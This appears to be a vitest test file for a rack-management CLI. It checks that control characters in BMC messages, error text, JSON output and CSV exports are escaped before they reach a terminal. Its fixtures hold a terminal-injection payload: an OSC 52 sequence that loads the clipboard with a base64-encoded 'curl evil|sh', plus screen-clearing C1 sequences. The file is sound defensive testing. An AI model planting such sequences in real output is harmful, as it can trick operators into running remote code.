/**
 * Rack text on the operator's terminal: what `nodes power` / `nodes bmc` print (a BMC's error body, serial and
 * Redfish version, the agent's enrolment reason), the error text of a failed command, `--json` (DEL and C1, which
 * JSON.stringify leaves raw), `events --follow --json`, and `export` to a terminal or a pipe. The command
 * functions against a stand-in appliance (`CRASHCART_URL`), and the real binary for what main.ts wires.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { spawn } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CcEvent, Node, NodeFromBmcAnswer, PowerResult } from '../../contract/index.ts';
import { bmcLines, bmcOutput, identityLines, powerTable } from '../../server/cli/nodes-bmc.ts';
import { cliErrorText, CliUsageError } from '../../server/cli/cli-errors.ts';
import { ERRORS } from '../../server/errors/catalog.ts';
import { errorFrom } from '../../server/cli/admin-client.ts';
import { routeCommand } from '../../server/cli/route/route-cli.ts';
import { terminalJson } from '../../server/core/terminal-text.ts';
import { BIN } from './cli-kit.ts';
import { followOnce } from './follow-once.ts';
import { killAfter } from '../support/kill-timer.ts';

/** OSC 52: sets the operator's clipboard (xterm), here to `curl evil|sh`. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007';
/** The 8-bit forms xterm and VTE act on in UTF-8: CSI (clear the screen) and OSC (retitle) ended by ST. */
const C1 = '\u009b2J\u009d0;pwned\u009c';
/** Any character a terminal acts on. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
/** Any control but tab, LF and CR (the layout of multi-line text). */
// eslint-disable-next-line no-control-regex
const CONTROL_BUT_LAYOUT = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
/** What JSON.stringify leaves raw. */
const RAW_IN_JSON = /[\u007f-\u009f]/;

const lines = (s: string) => s.split('\n');

describe('nodes power / nodes bmc lines', () => {
  it("a BMC's error body, warnings, serial, Redfish version and the enrolment reason print with every control as ?", () => {
    const power: PowerResult = {
      results: [
        { node_id: 3, ok: false, code: 'CC_ERR_BMC_REFUSED', reason: `-> HTTP 500: ${OSC52}`, warnings: [`boot device ${C1}`] },
        { node_id: 4, ok: true, power: 'on', warnings: ['line one\nline two\r'] },
      ],
    };
    const p = bmcOutput(power, false, () => powerTable(power));
    for (const l of lines(p)) expect(l).not.toMatch(CONTROL);
    expect(p).toContain('FAIL  CC_ERR_BMC_REFUSED -> HTTP 500: ?]52;c;Y3VybCBldmlsfHNoCg==?');
    expect(p).toContain('warning: boot device ?2J?0;pwned?');
    // A line break in rack text is not a line of its own: it shows as its escape.
    expect(p).toContain('warning: line one\\nline two\\r');
    expect(lines(p)).toHaveLength(4);

    const node = {
      id: 7,
      state: 'expected',
      hostname: null,
      bmc: null,
      power: null,
      bmc_enrolment: { state: 'failed', address: `10.0.0.9${C1}`, username: null, reason: `agent says ${OSC52}`, at: null },
      bmc_redfish: { detected: true, version: `1.6.0${OSC52}`, reason: null, checked_at: '2026-11-30T00:00:00.000Z' },
    } as unknown as Node;
    const b = bmcOutput(node, false, () => bmcLines(node));
    for (const l of lines(b)) expect(l).not.toMatch(CONTROL);
    expect(b).toContain('in-band enrolment: failed at 10.0.0.9?2J?0;pwned?: agent says ?]52;c;Y3VybCBldmlsfHNoCg==?');
    expect(b).toContain('redfish: yes, 1.6.0?]52;c;');

    const a = {
      node,
      identity: { uuid: null, serial: `SER1${OSC52}`, macs: [`52:54:00:00:00:01${C1}`], sources: [] },
      warnings: [`another record holds ${C1}`],
    } as unknown as NodeFromBmcAnswer;
    const i = bmcOutput(a, false, () => identityLines(a));
    for (const l of lines(i)) expect(l).not.toMatch(CONTROL);
    expect(i).toContain('  serial SER1?]52;c;Y3VybCBldmlsfHNoCg==?');
    expect(i).toContain('  mac    52:54:00:00:00:01?2J?0;pwned?');
    expect(i).toContain('  warning: another record holds ?2J');
  });

  it('--json: DEL and C1 as \\u escapes, the same JSON value', () => {
    const power: PowerResult = { results: [{ node_id: 3, ok: false, reason: `x${C1}\u007f${OSC52}` }] };
    const j = bmcOutput(power, true, () => powerTable(power));
    expect(j).not.toMatch(RAW_IN_JSON);
    expect(j).not.toMatch(CONTROL_BUT_LAYOUT);
    expect(j).toContain('\\u009b2J\\u009d0;pwned\\u009c\\u007f\\u001b]52');
    expect(JSON.parse(j)).toEqual(power);
  });
});

describe('the error text of a failed command', () => {
  it("a BMC's message in CC_ERR_BMC_REFUSED, and a fix, print with controls as ? and line breaks escaped; usage lines stay lines", () => {
    const e = errorFrom(
      502,
      JSON.stringify({
        code: 'CC_ERR_BMC_REFUSED',
        message: `The BMC refused the request: POST /redfish/v1/Systems/1/Actions/ComputerSystem.Reset -> HTTP 500: ${OSC52}${C1}`,
        fix: `Check the BMC\r${OSC52}`,
      }),
    );
    const t = cliErrorText(e);
    expect(t).toBe(
      'CC_ERR_BMC_REFUSED: The BMC refused the request: POST /redfish/v1/Systems/1/Actions/ComputerSystem.Reset -> HTTP 500: ' +
        '?]52;c;Y3VybCBldmlsfHNoCg==??2J?0;pwned?\n  fix: Check the BMC\\r?]52;c;Y3VybCBldmlsfHNoCg==?',
    );
    // With the stack trace (CRASHCART_DEBUG=1): its first line repeats the message.
    for (const l of lines(cliErrorText(e, true))) expect(l).not.toMatch(CONTROL);
    // A bug of ours whose message quotes rack text.
    expect(cliErrorText(new Error(`bad serial ${OSC52}`))).toContain('Internal error: bad serial ?]52;c;');
    // An appliance's message is one line, whatever it holds; the usage text of the CLI's own follows the fix.
    const answered = errorFrom(400, JSON.stringify({ code: 'CC_ERR_CLI_USAGE', message: 'bad\n  fix: forged\u2028x', fix: 'f' }));
    expect(cliErrorText(answered)).toBe('CC_ERR_CLI_USAGE: bad\\n  fix: forged\\u2028x\n  fix: f');
    const usage = new CliUsageError('CC_ERR_CLI_USAGE', 'bad', 'usage:\n  nodes power\n');
    expect(cliErrorText(usage)).toBe(
      `CC_ERR_CLI_USAGE: ${ERRORS.CC_ERR_CLI_USAGE.message}: bad\n  fix: ${ERRORS.CC_ERR_CLI_USAGE.fix}\nusage:\n  nodes power`,
    );
  });
});

describe('terminalJson', () => {
  it('escapes DEL, C1, U+2028 and U+2029 only, keeping the JSON value, also after an escaped backslash', () => {
    const v = { s: `a\\\u009bb\u007f\u0080\u009f\u00a0é\u2028${OSC52}`, n: [1, 'x\u0085'] };
    const j = terminalJson(JSON.stringify(v, null, 2));
    expect(j).not.toMatch(RAW_IN_JSON);
    expect(JSON.parse(j)).toEqual(v);
    expect(j).toContain('a\\\\\\u009bb\\u007f\\u0080\\u009f\u00a0é');
    // Unicode's line separator too: one line stays one line for a reader that splits on it.
    expect(j).not.toMatch(/[\u2028\u2029]/);
    expect(j).toContain('é\\u2028\\u001b]52');
  });
});

describe('events --follow --json', () => {
  it('an event carrying C1 and DEL prints them as \\u escapes, one line, the same event', async () => {
    const e: CcEvent = {
      seq: 9,
      ts: '2026-11-30T00:00:00.000Z',
      type: 'node.bound',
      node_id: 9,
      mac: null,
      message: `host ${C1}\u007f bound`,
      data: { policy: 'p', explicit: false, hostname: `h${C1}` },
    };
    const out = await followOnce(e, true);
    expect(out).not.toMatch(RAW_IN_JSON);
    expect(out.endsWith('\n')).toBe(true);
    expect(JSON.parse(out)).toEqual(e);
  });
});

/** A CSV body as an appliance could send it: the rack's text quoted, its control characters kept (right for a file). */
const CSV = Buffer.concat([
  Buffer.from(`id,serial,product\r\n1,"SER${OSC52}","R640\t${C1}\u007f"\r\n2,"naïve ✓`, 'utf8'),
  // A byte that is not UTF-8 at all: a pipe gets it as sent.
  Buffer.from([0xff]),
  Buffer.from('",x\r\n', 'utf8'),
]);
/** The same body split inside a multi-byte character (ï), as two chunks of the response. */
const SPLIT = CSV.indexOf(Buffer.from('ï', 'utf8')) + 1;

let stand: http.Server;
let url: string;
const NODES = { nodes: [{ id: 1, hostname: `web${C1}\u007f`, state: 'registered' }], total: 1 };
beforeAll(async () => {
  stand = http.createServer((req, res) => {
    if (req.url?.startsWith('/api/v1/export/csv')) {
      res.writeHead(200, { 'content-type': 'text/csv' });
      res.write(CSV.subarray(0, SPLIT));
      // The second part after the first has left (a flush, not a timing: the order is what matters).
      setImmediate(() => res.end(CSV.subarray(SPLIT)));
      return;
    }
    if (req.url?.startsWith('/api/v1/nodes')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(NODES));
      return;
    }
    res.writeHead(404, { 'content-type': 'application/json' }).end('{"statusCode":404,"code":"CC_ERR_NOT_FOUND"}');
  });
  await new Promise<void>((r) => stand.listen(0, '127.0.0.1', r));
  url = `http://127.0.0.1:${(stand.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((r) => stand.close(r)));

/** Run an appliance command in this process; what it wrote to stdout, as bytes. */
async function run(argv: string[], tty: boolean): Promise<Buffer> {
  const out: Buffer[] = [];
  const code = await routeCommand(argv, {
    env: { CRASHCART_URL: url, CRASHCART_TOKEN: 'any-token' },
    write: (s) => out.push(typeof s === 'string' ? Buffer.from(s, 'utf8') : Buffer.from(s)),
    warn: () => {},
    tty,
  });
  expect(code).toBe(0);
  return Buffer.concat(out);
}

describe('appliance commands', () => {
  it('--json of any command: DEL and C1 as \\u escapes, the same answer', async () => {
    const out = (await run(['nodes', 'list', '--json'], false)).toString('utf8');
    expect(out).not.toMatch(RAW_IN_JSON);
    expect(JSON.parse(out)).toEqual(NODES);
  });

  it('export to a terminal: controls but tab, CR and LF as ?; the rest of the text, and its characters, kept', async () => {
    const out = (await run(['export', 'csv'], true)).toString('utf8');
    expect(out).not.toMatch(CONTROL_BUT_LAYOUT);
    expect(out).toBe(`id,serial,product\r\n1,"SER?]52;c;Y3VybCBldmlsfHNoCg==?","R640\t?2J?0;pwned??"\r\n2,"naïve ✓\ufffd",x\r\n`);
  });

  it('export to a pipe or a file: byte for byte what the appliance sent', async () => {
    expect((await run(['export', 'csv'], false)).equals(CSV)).toBe(true);
  });
});

/** Run `command args` to its end with stdout a pipe: its exit status and stdout as bytes. */
function bytesOf(command: string, args: string[], env: NodeJS.ProcessEnv): Promise<{ status: number | null; stdout: Buffer }> {
  const base = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('CRASHCART_')));
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { env: { ...base, ...env }, stdio: ['ignore', 'pipe', 'inherit'] });
    const out: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => out.push(d));
    killAfter(child, 60_000);
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout: Buffer.concat(out) }));
  });
}

// Each run starts a Node process through tsx: seconds on a loaded machine (not a timing assertion).
describe('the real binary', { timeout: 300_000 }, () => {
  it('export into a pipe is byte-exact; on a terminal (script(1) gives it one) the controls are neutralised', async () => {
    const env = { CRASHCART_URL: url, CRASHCART_TOKEN: 'any-token' };
    const piped = await bytesOf(process.execPath, [BIN, 'export', 'csv'], env);
    expect(piped.status).toBe(0);
    expect(piped.stdout.equals(CSV)).toBe(true);
    // script(1) runs the command on a pseudo-terminal and copies what it wrote there (the tty adds a CR to each LF).
    const quote = (x: string) => `'${x.replace(/'/g, `'\\''`)}'`;
    const tty = await bytesOf('script', ['-qec', `${quote(process.execPath)} ${quote(BIN)} export csv`, '/dev/null'], env);
    expect(tty.status).toBe(0);
    const shown = tty.stdout.toString('utf8');
    expect(shown).toContain('1,"SER?]52;c;Y3VybCBldmlsfHNoCg==?","R640\t?2J?0;pwned??"');
    expect(shown).not.toMatch(CONTROL_BUT_LAYOUT);
  });
});
